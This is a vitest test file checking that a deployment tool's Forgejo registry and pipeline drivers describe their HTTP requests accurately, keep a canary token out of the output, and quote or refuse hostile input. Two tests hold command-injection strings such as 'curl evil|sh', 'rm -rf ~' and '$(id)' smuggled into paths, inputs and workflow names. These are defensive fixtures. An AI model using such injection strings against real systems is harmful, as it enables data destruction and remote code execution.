import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { type Action, renderAction } from "@backflip/core";
import { quoteForShell } from "@backflip/core/driver-kit";
import { vezaTopology } from "@backflip/core/recipes";
import {
  type FakeForgejo,
  type FakeForgejoVersion,
  startFakeForgejo,
} from "@backflip/driver-forgejo/testing";
import { afterEach, describe, expect, it } from "vitest";
import { createForgejoPipeline, type ForgejoPipeline } from "../src/forgejo-pipeline";
import { newSha, registryRig } from "./helpers";

// A dry run names the requests the driver really sends: each described URL is checked
// against what the fake then receives for the same call.

const CANARY = "CANARY-dry-run-7c1e9b3a5d";
const FORMS = [CANARY, encodeURIComponent(CANARY), Buffer.from(CANARY).toString("base64")];

/** The rendered lines, after checking each is one line with no form of the token. */
function render(actions: readonly Action[]): string[] {
  const lines = actions.map(renderAction);
  for (const line of lines) {
    expect(line).not.toContain("\n");
    for (const form of FORMS) expect(line.toLowerCase()).not.toContain(form.toLowerCase());
  }
  return lines;
}

/** The `METHOD path?query` of each `http` action, relative to the fake. */
const requests = (actions: readonly Action[], base: string) =>
  actions.flatMap((a) => (a.kind === "http" ? [`${a.method} ${a.url.replace(base, "")}`] : []));

describe("ForgejoRegistry.describe", () => {
  it("names the GET, PUT and GET the driver sends, with the base URL and no token", async () => {
    const rig = await registryRig({ tokens: { [CANARY]: {} } }, { token: CANARY });
    try {
      const sha = newSha();
      const ref = { component: "backend", sha };
      const path = join(rig.dir, "artifact.tar.zst");
      await writeFile(path, "bytes");
      const pkg = `/api/packages/talas/generic/veza-backend/${sha}/veza-backend-${sha}.tar.zst`;
      const files = `/api/v1/packages/talas/generic/veza-backend/${sha}/files`;

      const upload = rig.registry.describe({ op: "upload", ref, path });
      expect(render(upload)[0]).toBe(`curl -sS -X PUT ${rig.fake.baseUrl}${pkg}`);
      expect(requests(upload, rig.fake.baseUrl)).toEqual([`PUT ${pkg}`]);
      expect(render(upload)[1]).toMatch(/^# forgejo: .*body is the file \S+artifact\.tar\.zst/);
      const stat = rig.registry.describe({ op: "stat", ref });
      expect(requests(stat, rig.fake.baseUrl)).toEqual([`GET ${files}`]);
      const download = rig.registry.describe({ op: "download", ref });
      expect(requests(download, rig.fake.baseUrl)).toEqual([`GET ${files}`, `GET ${pkg}`]);

      // The driver sends exactly those requests.
      const sent = () => rig.fake.requests.map((r) => `${r.method} ${r.path}`);
      (await rig.registry.upload(ref, { path }))._unsafeUnwrap();
      expect(sent()).toEqual([`PUT ${pkg}`]);
      (await rig.registry.stat(ref))._unsafeUnwrap();
      expect(sent().slice(1)).toEqual([`GET ${files}`]);
      (await rig.registry.download(ref, join(rig.dir, "back.tar.zst")))._unsafeUnwrap();
      expect(sent().slice(2)).toEqual([`GET ${files}`, `GET ${pkg}`]);
    } finally {
      await rig.close();
    }
  });

  it("quotes a hostile upload path and refuses a hostile component in a one-line comment", async () => {
    const rig = await registryRig({ tokens: { [CANARY]: {} } }, { token: CANARY });
    try {
      const sha = newSha();
      const path = "/tmp/it's $(rm -rf ~); `id`\nx.tar";
      const [put, body] = render(
        rig.registry.describe({ op: "upload", ref: { component: "backend", sha }, path }),
      );
      expect(put).toMatch(/^curl -sS -X PUT /);
      expect(body).toContain(quoteForShell(path).replace("\n", "\\n"));

      const hostile = "backend; curl evil|sh";
      const refused = render(rig.registry.describe({ op: "stat", ref: { component: hostile, sha } }));
      expect(refused).toHaveLength(1);
      expect(refused[0]).toMatch(/^# forgejo: stat would be refused, nothing sent: /);
      expect(
        render(rig.registry.describe({ op: "upload", ref: { component: "backend", sha }, path: "" })),
      ).toEqual([expect.stringMatching(/^# forgejo: upload would be refused/)]);
      expect(rig.fake.requests).toEqual([]);
    } finally {
      await rig.close();
    }
  });
});

let fake: FakeForgejo | undefined;
afterEach(async () => {
  await fake?.close();
  fake = undefined;
});

async function pipelineOn(version: FakeForgejoVersion): Promise<ForgejoPipeline> {
  fake = await startFakeForgejo({
    version,
    tokens: { [CANARY]: {} },
    workflows: { "rollback.yml": { statuses: ["success"] } },
  });
  return createForgejoPipeline({
    baseUrl: fake.baseUrl,
    token: CANARY,
    topology: vezaTopology("staging"),
    repo: "veza",
  })._unsafeUnwrap();
}

const actionsPath = "/api/v1/repos/talas/veza/actions";
const dispatch = (inputs: Record<string, string> = { env: "staging" }, workflow = "rollback.yml") =>
  ({ op: "dispatch", request: { workflow, ref: "main", inputs } }) as const;

describe("ForgejoPipeline.describe", () => {
  it("before the version is known: the newest form after the version request, with a note on older servers", async () => {
    const pipeline = await pipelineOn("16.0.0");
    const base = fake?.baseUrl ?? "";
    const actions = pipeline.describe(dispatch());
    const lines = render(actions);
    expect(requests(actions, base)).toEqual([
      "GET /api/v1/version",
      `GET ${actionsPath}/runs?workflow_id=rollback.yml&event=workflow_dispatch&limit=50&page=1`,
      `POST ${actionsPath}/workflows/rollback.yml/dispatches`,
      `GET ${actionsPath}/runs/{id}`,
    ]);
    expect(lines).toContain(`curl -sS -X POST ${base}${actionsPath}/workflows/rollback.yml/dispatches`);
    expect(lines.at(-1)).toContain(`tasks list (GET ${base}${actionsPath}/tasks?limit=50&page=1)`);
    expect(lines.join("\n")).toContain('{"ref":"main","inputs":{"env":"staging"},"return_run_info":true}');

    // The dispatch then sends those requests (the run's id in place of {id}).
    (await pipeline.dispatch(dispatch().request))._unsafeUnwrap();
    expect(fake?.requests.map((r) => `${r.method} ${r.path}`)).toEqual([
      "GET /api/v1/version",
      `GET ${actionsPath}/runs`,
      `POST ${actionsPath}/workflows/rollback.yml/dispatches`,
      `GET ${actionsPath}/runs/1000`,
    ]);
    // Known now: no version request, no note.
    const follow = pipeline.describe({ op: "follow", pollMs: 250 });
    expect(requests(follow, base)).toEqual([`GET ${actionsPath}/runs/{id}`]);
    expect(render(follow)[1]).toContain("every 250 ms");
  });

  it("on Forgejo 8 follows through the tasks list and looks the dispatched run up in it", async () => {
    const pipeline = await pipelineOn("8.0.0");
    (await pipeline.server())._unsafeUnwrap();
    const base = fake?.baseUrl ?? "";
    const tasks = `GET ${actionsPath}/tasks?limit=50&page=1`;
    expect(requests(pipeline.describe({ op: "follow", pollMs: 1000 }), base)).toEqual([tasks]);
    const actions = pipeline.describe(dispatch());
    expect(requests(actions, base)).toEqual([
      tasks,
      `POST ${actionsPath}/workflows/rollback.yml/dispatches`,
      tasks,
    ]);
    expect(render(actions).join("\n")).not.toContain("return_run_info");
  });

  it("says a Gitea without the dispatch API refuses, and what to do instead", async () => {
    const pipeline = await pipelineOn("gitea-1.22");
    (await pipeline.server())._unsafeUnwrap();
    const lines = render(pipeline.describe(dispatch()));
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(
      /^# forgejo: the dispatch would be refused: Gitea 1\.22\.6 has no workflow dispatch API/,
    );
    expect(lines[0]).toContain('"Run workflow" on rollback.yml');
  });

  it("keeps hostile inputs inside one comment line and refuses a hostile workflow name", async () => {
    const pipeline = await pipelineOn("16.0.0");
    const hostile = "x'; rm -rf / #\n$(id)";
    const lines = render(pipeline.describe(dispatch({ env: hostile })));
    const body = lines.find((l) => l.includes("body"));
    expect(body).toMatch(/^# forgejo: the POST's body/);
    expect(body).toContain(JSON.stringify(hostile));

    const refused = render(pipeline.describe(dispatch({}, "x.yml; curl evil|sh")));
    expect(refused).toHaveLength(1);
    expect(refused[0]).toMatch(/^# forgejo: dispatch would be refused, nothing sent: workflow: /);
    expect(fake?.requests).toEqual([]);
  });
});
